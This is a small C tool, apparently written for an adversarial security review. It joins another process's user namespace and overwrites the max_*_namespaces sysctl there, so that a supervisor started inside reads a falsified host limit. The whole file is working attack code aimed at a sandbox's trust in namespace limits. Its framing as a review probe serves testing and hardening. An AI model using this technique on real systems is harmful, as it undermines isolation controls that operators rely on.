/* ha68-nslimit.c: hostile review h-attack68, the one read of the limits.
 *   ha68-nslimit PID KIND VALUE
 * Joins the user namespace of PID (any process of our uid in a namespace our
 * uid owns: as its owner we get every capability in it) and writes VALUE to
 * /proc/sys/user/max_KIND_namespaces there: the limit a supervisor started
 * in that namespace reads as "the host's". Prints what it did. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	char path[128];
	int fd, n;

	if (argc != 4) {
		fprintf(stderr, "usage: ha68-nslimit PID KIND VALUE\n");
		return 2;
	}
	snprintf(path, sizeof(path), "/proc/%s/ns/user", argv[1]);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0 || setns(fd, CLONE_NEWUSER) != 0) {
		printf("nslimit: join %s: %s\n", path, strerror(errno));
		return 1;
	}
	snprintf(path, sizeof(path), "/proc/sys/user/max_%s_namespaces", argv[2]);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	n = fd < 0 ? -1 : (int)write(fd, argv[3], strlen(argv[3]));
	printf("nslimit: %s = %s: %s\n", path, argv[3], n < 0 ? strerror(errno) : "written");
	return n < 0;
}
